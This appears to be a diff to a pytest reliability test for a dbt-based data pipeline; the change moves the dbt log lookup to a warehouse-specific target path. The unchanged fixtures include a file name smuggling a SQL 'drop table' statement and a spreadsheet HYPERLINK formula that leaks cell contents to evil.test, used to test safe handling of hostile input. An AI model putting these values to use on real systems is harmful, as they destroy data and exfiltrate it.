@@ -18,7 +18,7 @@ from typing import Any
 import pytest
 from reliability_helpers import PAUSED, SOFTSPAM, clean_env, csv_text, query, start_run, tree_digest
 
-from orchestration.config import PROJECT_DIR
+from orchestration.assets.dbt import dbt_target_for
 
 HOSTILE_SENDS_FILE = "sends/hostile \"quoted\" 'x'); drop table raw.sends; -- àé 日本 v1..2.csv"
 FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"click")'
@@ -43,7 +43,6 @@ HOSTILE_VIOLATIONS = {
     ("H-FORMULA", "hostile_esp", "NO_OPT_OUT_LINK"),
     ("H-OVERLONG", "hostile_esp", "NO_SALE_RELATIONSHIP"),
 }
-DBT_LOG = PROJECT_DIR / "target" / "softspam_run" / "dbt.log"
 
 
 def _watch_published(output: Path, stop: threading.Event, seen: dict[str, Any]) -> None:
@@ -85,7 +84,8 @@ def lifecycle(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
     (landing / HOSTILE_SENDS_FILE).write_text(csv_text(HOSTILE_SENDS), encoding="utf-8")
     state["captured"] = [demo.stdout, demo.stderr]
     state["landing_before"] = tree_digest(landing)
-    state["dbt_log_offset"] = DBT_LOG.stat().st_size if DBT_LOG.exists() else 0
+    dbt_log = dbt_target_for(warehouse) / "dbt.log"  # dbt writes its log beside its target
+    state["dbt_log_offset"] = dbt_log.stat().st_size if dbt_log.exists() else 0
 
     def ledger() -> list[tuple[Any, ...]]:
         return query(
@@ -128,9 +128,9 @@ def lifecycle(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
     state["landing_after"] = tree_digest(landing)
     for run in (run_a, run_b, run_c, *runs):
         state["captured"] += [run.stdout, run.stderr]
-    if DBT_LOG.exists():
-        with DBT_LOG.open("rb") as handle:
-            size = DBT_LOG.stat().st_size
+    if dbt_log.exists():
+        with dbt_log.open("rb") as handle:
+            size = dbt_log.stat().st_size
             handle.seek(state["dbt_log_offset"] if size >= state["dbt_log_offset"] else 0)
             state["dbt_log"] = handle.read().decode("utf-8", errors="replace")
     return state
